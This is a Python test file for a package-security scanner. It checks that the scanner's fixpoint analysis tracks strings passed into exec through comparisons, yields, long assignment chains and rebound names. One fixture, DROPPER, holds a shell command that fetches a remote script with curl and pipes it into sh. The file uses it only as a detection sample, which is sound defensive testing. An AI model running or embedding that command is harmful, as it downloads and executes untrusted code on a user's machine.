"""The interpreter's fixpoint: what runs again, and what the rules read after it, must be what the code can do.
Each case is code whose meaning an incremental fixpoint (statements re-run only when what they read changed, the
values of their last run kept) could lose; the benign twin keeps its place."""

from __future__ import annotations

from pathlib import Path

from jupyter_safepip.core.analysis.source import load
from jupyter_safepip.core.rules.capabilities import worth_following
from tests.support.archives import scan_wheel

DROPPER = "import os\\nos.system('curl http://203.0.113.9/x | sh')"
HELPER = "def run(code):\n    exec(code)\n"


def _calls(code: str) -> set[str]:
    return {call.name for call in load("demo.py", code.encode(), keep=worth_following).calls}


def test_a_call_in_a_comparison_or_a_yield_still_hands_its_argument_on():
    compared = f'if run("{DROPPER}") is None:\n    pass\n\n\n{HELPER}'
    yielded = f'def gen():\n    yield run(PAYLOAD)\n\n\n{HELPER}PAYLOAD = "{DROPPER}"\n'
    with_bare = f'with run("{DROPPER}"):\n    pass\n\n\n{HELPER}'
    for code in (compared, yielded, with_bare):
        assert "os.system" in _calls(code), code
    assert "os.system" not in _calls(f'if run("print(1)") is None:\n    pass\n\n\n{HELPER}')


def test_a_function_called_in_a_module_level_comparison_runs_on_import(tmp_path: Path):
    shell = "import subprocess\n\n\ndef check():\n    subprocess.run(['ls'])\n    return 0\n\n\n"
    called = scan_wheel(tmp_path / "a", {"demo/__init__.py": shell + "if check() == 0:\n    pass\n"})
    assert next(f.runs for f in called.findings if f.rule_id == "shell-exec") == "import"
    uncalled = scan_wheel(tmp_path / "b", {"demo/__init__.py": shell + "if check == 0:\n    pass\n"})
    assert next(f.runs for f in uncalled.findings if f.rule_id == "shell-exec") == "library"


def test_a_chain_longer_than_the_pass_limit_still_reaches_the_exec():
    chain = "exec(a)\na = b\nb = c\nc = d\nd = e\ne = \"" + DROPPER + "\"\n"  # one link per pass: a is bound in the last
    assert "os.system" in _calls(chain)


def test_text_an_exec_had_in_an_early_pass_is_not_what_it_runs_once_the_name_is_rebound():
    rebound = f'code = "{DROPPER}"\nexec(code)\ncode = input()\n'
    assert "os.system" not in _calls(rebound)  # it may run anything: no payload is read into it
    assert "os.system" in _calls(f'code = "{DROPPER}"\nexec(code)\n')
